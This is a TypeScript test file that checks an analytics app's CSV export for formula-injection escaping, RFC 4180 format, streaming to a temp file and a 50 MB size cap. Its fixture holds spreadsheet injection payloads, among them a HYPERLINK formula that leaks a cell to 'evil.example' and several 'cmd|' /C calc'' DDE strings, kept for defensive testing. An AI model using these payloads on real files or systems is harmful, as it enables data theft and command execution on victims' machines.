/**
 * An export's file, through the services against the sandbox over loopback: values a visitor sent
 * are written as data a spreadsheet will not run, the file is RFC 4180 in UTF-8 with a BOM, rows
 * reach the disk while later pages are still being read, and a file that would pass the cap is
 * never written. Whatever happens, only a whole file ever appears where the user asked for one.
 */
import { existsSync } from 'node:fs'
import { readdir, readFile, writeFile } from 'node:fs/promises'
import { basename, join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import type { SandboxStatRow } from '../../src/main/sandbox'
import type { ServicesEvent } from '../../src/main/services'
import type { ExportProgress } from '../../src/shared/statistics/insights'
import { accountOnSandbox } from '../support/account'
import { holdingProxy, type HoldingProxy } from '../support/holding-proxy'

const EXPORT_ID = '0b7d2f4e-5c1a-4e8b-9f3d-2a6c8e1b4d70'
const WEBSITE_ID = 2

/** What a spreadsheet reads as the start of a formula, the full-width forms Apple Numbers folds included. */
const FORMULA_START = /^[=+\-@\t\r＝＋－＠]/

/** RFC 4180's grammar: fields unquoted without `"` `,` CR LF, or quoted with quotes doubled; CRLF after each record. */
const RFC_4180_FILE = /^(?:(?:"(?:[^"]|"")*"|[^",\r\n]*)(?:,(?:"(?:[^"]|"")*"|[^",\r\n]*))*\r\n)+$/

/** Campaigns and events as visitors may send them: formulas, and the characters CSV must quote. */
const VISITOR_VALUES: readonly SandboxStatRow[] = [
  { value: '=HYPERLINK("https://evil.example/?leak="&A3,"Click for your discount")', count: 41 },
  { value: "+1+cmd|' /C calc'!A0", count: 37 },
  { value: "-2+3+cmd|' /C calc'!A0", count: 29 },
  { value: '-42', count: 23 },
  { value: "@SUM(1+1)*cmd|' /C calc'!A0", count: 19 },
  { value: '\t=1+1', count: 17 },
  { value: '\r=1+1', count: 13 },
  { value: '＝1+1', count: 11 },
  { value: 'black friday, 2026', count: 7 },
  { value: 'the "best" sale', count: 5 },
  { value: 'feedback:great\nthanks:text', count: 3 },
  { value: 'Frühlingsfest – 春のセール', count: 2 },
]

const progressOf = (events: readonly ServicesEvent[]): ExportProgress[] =>
  events.flatMap((event) => (event.type === 'export-progress' ? [event.payload] : []))

/** Files in `folder` that are not `file` but are named after it: a temp file left behind. */
async function leftovers(folder: string, file: string): Promise<string[]> {
  return (await readdir(folder)).filter((name) => name !== file && name.startsWith(`${file}.`))
}

describe('an export of values a visitor sent', () => {
  it('writes each as data: no cell starts a formula, counts stay numbers, the file is RFC 4180 in UTF-8 with a BOM', async () => {
    const setup = await accountOnSandbox()
    const { services, accountId, dataDir, sandbox } = setup
    sandbox.control.setStatRows('B', WEBSITE_ID, 'campaign', VISITOR_VALUES)
    const path = join(dataDir, 'campaigns.csv')
    services.insights.useSaveDialog(async () => path)

    const answer = await services.insights.export({
      accountId,
      websiteId: String(WEBSITE_ID),
      name: 'campaign',
      period: '30d',
      exportId: EXPORT_ID,
    })

    expect(answer).toEqual({ outcome: 'written', rows: VISITOR_VALUES.length, fileName: 'campaigns.csv' })
    const bytes = await readFile(path)
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const text = new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(bytes.subarray(3))
    expect(text).toMatch(RFC_4180_FILE)
    expect(text.startsWith('campaign,count\r\n')).toBe(true)
    const records = parse(bytes, { bom: true, columns: true }) as Array<{ campaign: string; count: string }>
    // The server's order (by count), each value read back as the visitor sent it, a ' before a formula's start.
    expect(records.map((record) => record.campaign)).toEqual(
      VISITOR_VALUES.map(({ value }) => (FORMULA_START.test(value) ? `'${value}` : value)),
    )
    expect(records.filter((record) => FORMULA_START.test(record.campaign))).toEqual([])
    expect(records.map((record) => record.count)).toEqual(VISITOR_VALUES.map(({ count }) => String(count)))
  })
})

describe('an export as it is written', () => {
  it('puts rows on disk while the last page is still being read, beside the file it replaces only once complete', async () => {
    let proxy!: HoldingProxy
    const setup = await accountOnSandbox({
      via: async (sandbox) => (proxy = await holdingProxy(sandbox.url)).url,
      // The last page is held on purpose: the request must not time out meanwhile.
      services: { timeoutMs: 30_000 },
    })
    const { services, accountId, dataDir, sandbox, events } = setup
    const rows = Array.from({ length: 250 }, (_, index) => ({ value: `campaign-${1000 + index}`, count: 500 - index }))
    sandbox.control.setStatRows('B', WEBSITE_ID, 'campaign', rows)
    const path = join(dataDir, 'campaigns.csv')
    await writeFile(path, 'last month’s export\r\n')
    services.insights.useSaveDialog(async () => path)
    let lastPage: ReturnType<HoldingProxy['hold']> | undefined
    const watching = services.onEvent((event) => {
      if (event.type === 'export-progress' && event.payload.rowsRead === 200 && !lastPage)
        lastPage = proxy.hold('GET', `/api/v1/stats/${WEBSITE_ID}`)
    })

    const exporting = services.insights.export({
      accountId,
      websiteId: String(WEBSITE_ID),
      name: 'campaign',
      period: '30d',
      exportId: EXPORT_ID,
    })
    await expect.poll(() => lastPage).toBeDefined()
    await lastPage!.reached
    const [temp] = await leftovers(dataDir, 'campaigns.csv')
    expect(temp).toBeDefined()
    // The 200 rows read so far are in the file being written — the header's line break and one per row.
    await expect
      .poll(async () => ((await readFile(join(dataDir, temp!), 'utf8')).match(/\r\n/g) ?? []).length)
      .toBe(201)
    expect(await readFile(path, 'utf8')).toBe('last month’s export\r\n')

    lastPage!.release()
    expect(await exporting).toMatchObject({ outcome: 'written', rows: 250 })
    watching.dispose()
    const records = parse(await readFile(path), { bom: true, columns: true }) as Array<{ campaign: string }>
    expect(records.map((record) => record.campaign)).toEqual(rows.map((row) => row.value))
    expect(await leftovers(dataDir, 'campaigns.csv')).toEqual([])
    expect(progressOf(events).at(-1)).toMatchObject({ state: 'done', rowsRead: 250 })
  })

  it('stops at 50 MB with words that say so, leaving no file where it was asked for and no temp file', async () => {
    const setup = await accountOnSandbox()
    const { services, accountId, dataDir, sandbox, requests, events } = setup
    // 100 values of 60 KB a page: 12 pages would make a file of 72 MB.
    const filler = 'x'.repeat(60_000)
    const pages = 12
    const rows = Array.from({ length: pages * 100 }, (_, index) => ({
      value: `/search?q=${String(index).padStart(4, '0')}${filler}`,
      count: 10_000 - index,
    }))
    sandbox.control.setStatRows('B', WEBSITE_ID, 'page', rows)
    const path = join(dataDir, 'pages.csv')
    services.insights.useSaveDialog(async () => path)

    await expect(
      services.insights.export({
        accountId,
        websiteId: String(WEBSITE_ID),
        name: 'page',
        period: '30d',
        exportId: EXPORT_ID,
      }),
    ).rejects.toMatchObject({
      message:
        'The file would be larger than 50 MB, so the export stopped and nothing was saved. Choose a shorter period.',
    })
    expect(progressOf(events).at(-1)).toMatchObject({ state: 'failed', problem: expect.stringContaining('50 MB') })
    expect(existsSync(path)).toBe(false)
    expect(await leftovers(dataDir, basename(path))).toEqual([])
    // It stopped where the file reached the cap, not after reading every page.
    const pagesAsked = requests.filter((request) => request.path.startsWith('/api/v1/stats/')).length
    expect(pagesAsked).toBeGreaterThanOrEqual(9)
    expect(pagesAsked).toBeLessThan(pages)
  })
})
